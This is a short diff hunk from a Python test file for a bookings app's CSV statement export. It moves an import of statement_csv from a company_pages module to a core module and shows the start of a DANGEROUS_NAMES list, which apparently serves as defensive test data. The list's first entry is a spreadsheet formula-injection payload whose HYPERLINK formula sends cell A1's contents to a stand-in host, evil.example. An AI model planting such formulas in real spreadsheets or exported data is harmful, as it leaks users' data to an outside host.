@@ -7,7 +7,7 @@ from decimal import Decimal
 
 import pytest
 
-from bookings.company_pages.statements import CentreLine, Statement, statement_csv
+from bookings.core.statements import CentreLine, Statement, statement_csv
 
 DANGEROUS_NAMES = [
     '=HYPERLINK("https://evil.example/?"&A1,"Open")',
